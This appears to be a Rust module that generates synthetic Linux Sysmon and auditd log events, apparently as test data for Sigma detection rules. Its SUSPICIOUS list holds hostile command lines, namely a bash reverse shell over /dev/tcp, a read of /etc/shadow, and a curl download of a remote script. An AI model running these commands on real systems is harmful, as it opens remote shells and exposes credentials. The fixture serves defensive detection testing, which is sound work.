//! What Linux writes: auditd, and Sysmon for Linux.

use serde_json::{Value as Json, json};

use super::Draw;
use crate::rsigma::{CATEGORY, PRODUCT, SERVICE};

const COMMANDS: [(&str, &str); 10] = [
    ("/usr/bin/bash", "bash -c /opt/checks/disk.sh"),
    ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only"),
    ("/usr/sbin/sshd", "sshd: deploy [priv]"),
    ("/usr/bin/systemctl", "systemctl is-active nginx"),
    ("/usr/bin/date", "date +%s"),
    ("/usr/bin/grep", "grep -q ready /run/app/state"),
    ("/usr/bin/awk", "awk {print $2} /proc/meminfo"),
    ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
    ("/usr/bin/curl", "curl -fsS http://127.0.0.1:9090/-/healthy"),
    ("/usr/bin/df", "df -P /var"),
];
const SUSPICIOUS: [(&str, &str); 4] = [
    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/curl", "curl -s http://203.0.113.9/x.sh -o /tmp/x.sh"),
];

pub(super) fn process_creation(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
    let (image, line) = if suspicious { draw.any(&SUSPICIOUS) } else { draw.favourite(&COMMANDS) };
    json!({
        PRODUCT: "linux", CATEGORY: "process_creation", SERVICE: "sysmon",
        "Computer": format!("node-{:03}", draw.below(200)), "ProcessId": draw.below(60_000), "Image": image, "CommandLine": line,
        "CurrentDirectory": "/", "User": draw.one(&["root", "deploy", "www-data", "prometheus"]), "LogonId": draw.below(90_000),
        "ParentProcessId": draw.below(60_000), "ParentImage": draw.one(&["/usr/lib/systemd/systemd", "/usr/sbin/cron", "/usr/bin/bash"]),
        "ParentCommandLine": draw.one(&["/usr/sbin/cron -f", "/sbin/init", "bash"]), "EventRecordID": number,
    })
}

pub(super) fn syscall(draw: &mut Draw, number: usize) -> Json {
    let (exe, _) = draw.favourite(&COMMANDS);
    json!({
        PRODUCT: "linux", SERVICE: "auditd",
        "type": draw.one(&["SYSCALL", "PATH", "EXECVE", "USER_START", "CRED_ACQ"]), "arch": "c000003e", "syscall": draw.below(330), "success": "yes",
        "exit": 0, "a0": draw.hex(12), "a1": draw.hex(4), "ppid": draw.below(60_000), "pid": draw.below(60_000), "auid": 4_294_967_295_u64,
        "uid": draw.below(2) * 1_000, "gid": 0, "tty": "(none)", "ses": draw.below(9_000), "comm": exe.rsplit('/').next(), "exe": exe,
        "key": draw.one(&["(null)", "identity", "time-change", "privileged"]), "name": "/etc/ld.so.cache", "msg": format!("audit(17783{number}.123:{})", draw.below(1_000_000)),
    })
}
